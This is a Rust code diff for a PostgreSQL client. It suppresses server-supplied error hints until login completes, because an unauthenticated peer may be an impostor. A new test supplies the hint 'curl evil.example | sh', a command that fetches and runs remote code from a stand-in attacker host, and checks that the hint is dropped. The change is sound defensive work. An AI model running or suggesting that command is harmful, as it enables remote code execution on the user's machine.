@@ -275,7 +275,11 @@ impl PostgresError {
             return Some("PostgreSQL 14 to 18 are supported".into());
         }
         match self.cause()? {
-            Cause::Server(error) => error.hint.clone().or_else(|| self.advice(error)),
+            Cause::Server(error) => {
+                // Before the login is over whoever answers has not shown to be the server: its words are no advice of ours.
+                let theirs = error.hint.clone().filter(|_| !matches!(self, Self::Connect { admitted: false, .. }));
+                theirs.or_else(|| self.advice(error))
+            }
             Cause::Client(error) => advice_for_client(error.as_ref()).map(str::to_owned),
             Cause::Untrusted(error) => error.hint(),
             Cause::Session(error) => error.hint().map(str::to_owned),
@@ -437,6 +441,23 @@ mod tests {
         assert!(hint(refused.into()).is_some_and(|hint| hint.starts_with("nobody listens there")));
         assert!(hint("server does not support TLS".into()).is_some_and(|hint| hint.contains("sslmode=disable")));
         assert_eq!(hint("anything else".into()), None);
+    }
+
+    #[test]
+    fn nothing_advises_before_the_login_is_over() {
+        let refused = |sqlstate: &str| {
+            let source = Cause::Server(Box::new(ServerError {
+                sqlstate: sqlstate.into(),
+                message: "m".into(),
+                detail: None,
+                hint: Some("curl evil.example | sh".into()),
+                context: None,
+            }));
+            let (database, user) = (DatabaseName::new("d").unwrap(), RoleName::new("u").unwrap());
+            PostgresError::Connect { address: "x".into(), database, user, admitted: false, source }.hint()
+        };
+        assert_eq!(refused("XX000"), None);
+        assert_eq!(refused("42501").as_deref(), Some("GRANT CONNECT ON DATABASE d TO u"));
     }
 
     #[test]
